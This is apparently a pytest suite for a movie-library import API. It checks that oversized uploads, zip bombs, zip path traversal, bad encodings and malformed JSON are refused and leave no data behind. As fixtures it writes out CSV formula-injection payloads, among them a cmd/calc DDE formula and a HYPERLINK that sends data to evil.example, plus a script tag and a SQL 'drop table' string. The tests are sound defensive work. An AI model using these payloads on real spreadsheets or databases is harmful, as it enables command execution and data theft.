"""What no honest reader sends: a clear refusal, and nothing is kept of it."""

import json
from collections.abc import AsyncIterator, Iterator

import httpx
import pytest

from api.http.bodies import BodyLimits
from api.sizes import MAX_FILE_BYTES
from tests.api.library.shelves import CATALOGUE, Place, Reader, snapshot
from tests.api.readers.library.exports import csv_of, zip_of

FILM = "Date,Name,Year,Letterboxd URI,Rating\n"
FORMULAS = (
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Dune")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\u0009=1+1 <script>alert(1)</script>",
)
PIECE = 64 * 1024
BOUNDARY = "a-boundary"
FORM = {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}


def told(answer: httpx.Response) -> tuple[int, str, str]:
    """Status, slug and sentence; the shape of every error."""
    said = answer.json()
    assert set(said) - {"fields"} == {"error", "detail", "request_id"}
    assert [told["field"] for told in said.get("fields", [])] == ["file"] * (answer.status_code == 422)
    assert said["detail"].startswith("file: ") or answer.status_code != 422
    return answer.status_code, said["error"], said["detail"]


@pytest.fixture(autouse=True)
def nothing_is_kept(place: Place, ada: Reader) -> Iterator[None]:
    """Whatever is sent here changes no table."""
    before = snapshot(place.url)
    yield
    assert snapshot(place.url) == before


class Flood:
    """A form with a file of 200 MB that comes in pieces, and how much of it was taken."""

    def __init__(self) -> None:
        self.n_taken = 0

    async def pieces(self) -> AsyncIterator[bytes]:
        """The form."""
        head = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="my.csv"\r\n\r\ntitle\n'
        yield head.encode()
        for _ in range(200_000_000 // PIECE):
            self.n_taken += PIECE
            yield b"Dune\n".ljust(PIECE)
        yield f"\r\n--{BOUNDARY}--\r\n".encode()


async def test_two_hundred_megabytes_that_are_announced_are_not_read(place: Place, ada: Reader) -> None:
    flood = Flood()
    headers = {**ada.headers, **FORM, "Content-Length": "200000000"}

    answer = await place.client.post("/library/import", headers=headers, content=flood.pieces())

    assert told(answer) == (413, "body_too_large", "The body has more than 10 MB.")
    assert flood.n_taken == 0


async def test_two_hundred_megabytes_that_are_not_announced_are_read_to_the_limit_and_no_further(
    place: Place, ada: Reader
) -> None:
    flood, limit = Flood(), BodyLimits().file

    answer = await place.client.post("/library/import", headers={**ada.headers, **FORM}, content=flood.pieces())

    assert told(answer) == (413, "body_too_large", "The body has more than 10 MB.")
    assert limit < flood.n_taken + PIECE < limit + 2 * PIECE


async def test_a_file_of_ten_megabytes_is_taken_and_of_a_byte_more_is_not(ada: Reader) -> None:
    line = b"Nowhere," + b"x" * 99_991 + b"\n"
    largest = b"title,notes\n" + line * 99 + b"Nowhere," + b"x" * (MAX_FILE_BYTES - 12 - 99 * len(line) - 9) + b"\n"
    assert len(largest) == MAX_FILE_BYTES == 10_000_000

    taken, refused = await ada.imported(largest), await ada.uploaded(largest + b"\n")

    assert taken["counts"] == {"not_found": 100}
    assert told(refused) == (413, "file_too_large", "file: It has more than 10 MB.")


async def test_a_zip_that_unpacks_to_far_more_than_it_is_is_refused(ada: Reader) -> None:
    bomb = zip_of({"ratings.csv": FILM.encode() + b"\n" * 30_000_000})
    assert len(bomb) < 100_000

    answer = await ada.uploaded(bomb, "bomb.zip")

    sentence = (
        "file: bomb.zip unpacks to far more than a library has; 20 MB in all and 100 times its own size are allowed."
    )
    assert told(answer) == (422, "zip_refused", sentence)


@pytest.mark.parametrize(
    "path", ["../ratings.csv", "/etc/ratings.csv", "a/../../ratings.csv", "C:ratings.csv", "..\\ratings.csv"]
)
async def test_a_path_that_leads_out_of_a_zip_is_refused(ada: Reader, path: str) -> None:
    content = zip_of({path: f"{FILM}2024-05-02,Ran,1985,x,4\n", "ratings.csv": f"{FILM}2024-05-02,Ran,1985,x,4\n"})

    answer = await ada.uploaded(content, "my.zip")

    assert told(answer) == (
        422,
        "zip_refused",
        f"file: my.zip has a file in it whose name could lead out of it: {path!r}.",
    )


@pytest.mark.parametrize(
    ("content", "slug", "beginning"),
    [
        (b"", "invalid_file", "my.csv is empty. Accepted are Letterboxd's zip"),
        (b"\xff\xfet\x00i\x00t\x00l\x00", "unknown_format", "No known export has the columns of my.csv."),
        (b"title\nDu\x81ne\n", "wrong_encoding", "my.csv is not text in UTF-8: upload it as the service made it"),
        (b"title\nDu\x00ne\n", "wrong_encoding", "my.csv has NUL characters in it"),
        (f"{FILM}2024-05-02,Amélie,2001,x,4\n".encode("latin-1"), "wrong_encoding", "my.csv is not text in UTF-8"),
        (b'{"format": "cinelibre-library", "t": "\xe9"}', "wrong_encoding", "my.csv is not text in UTF-8"),
        (b'{"format": "cinelibre-library", "version": 2}', "unknown_version", "my.csv is of another version than 1"),
        (b'{"format": "cinelibre-library", "version": 1, ', "invalid_file", "my.csv is not JSON"),
        (b"[" * 100_000, "unknown_format", "No known export has the columns of my.csv."),
        (b'{"a":' * 100_000, "invalid_file", "my.csv is nested more deeply than any library."),
        (b"%PDF-1.7\n", "unknown_format", "No known export has the columns of my.csv."),
        (b"userId,movieId,rating\n1,6,5\n2,6,4\n", "many_raters", "my.csv holds the ratings of several people"),
    ],
)
async def test_what_cannot_be_read_is_refused_with_the_remedy(
    ada: Reader, content: bytes, slug: str, beginning: str
) -> None:
    status, error, detail = told(await ada.uploaded(content))

    assert (status, error) == (422, slug)
    assert detail.startswith(f"file: {beginning}")


async def test_a_formula_is_a_title_like_any_other_and_is_answered_letter_by_letter(ada: Reader) -> None:
    content = csv_of("title,year,rating", *([formula.strip(), "1985", "4"] for formula in FORMULAS))

    answer = await ada.uploaded(content, "=1+1.csv")

    assert answer.headers["content-type"] == "application/json"
    assert answer.json() == {
        "format": "generic",
        "counts": {"not_found": len(FORMULAS)},
        "notes": [],
        "rows": [
            {
                "file": "=1+1.csv",
                "row": row,
                "title": formula.strip(),
                "year": 1985,
                "status": "not_found",
                "kept": {"rating": 4.0},
            }
            for row, formula in enumerate(FORMULAS, start=2)
        ],
    }


async def test_one_file_is_asked_for_and_neither_none_nor_two(place: Place, ada: Reader) -> None:
    there, csv = "/library/import", ("my.csv", b"title\nRan\n")
    sent = [
        await place.client.post(there, headers=ada.headers),
        await place.client.post(there, headers=ada.headers, files={"library": csv}),
        await place.client.post(there, headers=ada.headers, data={"file": "title\nRan\n"}),
        await place.client.post(there, headers=ada.headers, json={"file": "title\nRan\n"}),
        await place.client.post(there, headers=ada.headers, files=[("file", csv), ("file", csv)]),
        await place.client.post(there, headers=ada.headers, files=[("file", csv), ("file", (None, b"text"))]),
    ]
    broken = await place.client.post(there, headers={**ada.headers, **FORM}, content=b"no boundary anywhere")

    assert [told(answer)[:2] for answer in sent] == [(422, "invalid_input")] * 6
    assert [told(answer)[2].partition(":")[0] for answer in sent] == ["file"] * 6
    assert told(sent[4])[2] == "file: Send one at a time."
    assert (broken.status_code, broken.json()["error"]) == (400, "malformed_body")


async def test_a_file_beside_other_fields_is_taken(place: Place, ada: Reader) -> None:
    answer = await place.client.post(
        "/library/import",
        headers=ada.headers,
        files={"file": ("my.csv", b"title,year\nNowhere,1985\n"), "more": ("x.csv", b"title\nDune\n")},
        data={"user_id": "1"},
    )

    assert answer.json()["rows"] == [
        {"file": "my.csv", "row": 2, "title": "Nowhere", "year": 1985, "status": "not_found", "kept": {}}
    ]


async def test_a_document_of_nonsense_is_bad_entry_by_entry(ada: Reader) -> None:
    ran = {key: value for key, value in CATALOGUE[0].items() if key != "item_type"}
    content = json.dumps(
        {
            "format": "cinelibre-library",
            "version": 1,
            "ratings": [
                {"item": ran, "rating": 11},
                {"item": ran, "rating": float("nan")},
                {"item": ran, "rating": 4, "rated_at": "9999-01-01T00:00:00Z"},
                {"item": {"id": 1, "title": "\ud800"}, "rating": 4},
                {"item": {"id": 1, "title": "'; drop table cinelibre.users; --"}, "rating": 4},
            ],
        }
    )

    report = await ada.imported(content)

    assert report["counts"] == {"bad": 4, "not_found": 1}


@pytest.mark.parametrize("method_and_path", [("GET", "/library/export"), ("POST", "/library/import")])
async def test_without_a_token_there_is_no_library(place: Place, method_and_path: tuple[str, str]) -> None:
    answer = await place.client.request(*method_and_path, files={"file": ("my.csv", b"title\nRan\n")})

    assert told(answer)[:2] == (401, "token_missing")
